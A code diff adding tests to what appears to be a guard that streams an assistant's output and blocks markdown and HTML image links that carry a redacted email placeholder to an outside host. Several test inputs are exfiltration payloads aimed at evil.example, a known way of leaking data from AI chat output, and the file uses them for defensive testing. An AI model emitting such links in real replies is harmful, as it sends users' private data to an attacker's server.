@@ -90,3 +90,25 @@ def test_placeholders_leave_in_no_link(text: str) -> None:
 )
 def test_ordinary_addresses_pass(text: str) -> None:
     assert rules(text) == set()
+
+
+_PLACEHOLDER = "[pii/email:k3x7-1]"
+
+
+@pytest.mark.parametrize(
+    ("text", "blocked"),
+    [
+        (f"![a](<https://evil.example/?q=a {_PLACEHOLDER}>)", True),
+        (f"![a][b]\n\n[b]: <https://evil.example/?q=a {_PLACEHOLDER}>", True),
+        (f'<img src="https://evil.example/?q=\n{_PLACEHOLDER}">', True),
+        (f'<img src="https://fine.example/a.png" alt="{_PLACEHOLDER}">', False),
+        (f"![a](<https://fine.example/a b.png>) {_PLACEHOLDER}", False),
+    ],
+)
+def test_an_address_may_hold_white_space_in_brackets_and_quotes(text: str, blocked: bool) -> None:
+    about = About("assistant", placeholders=(_PLACEHOLDER,))
+    stream = GUARDS.stream(about)
+    for character in text:
+        stream.feed(character)
+    stream.end()
+    assert stream.verdict == GUARDS.check(text, about).verdict == ("block" if blocked else "allow")
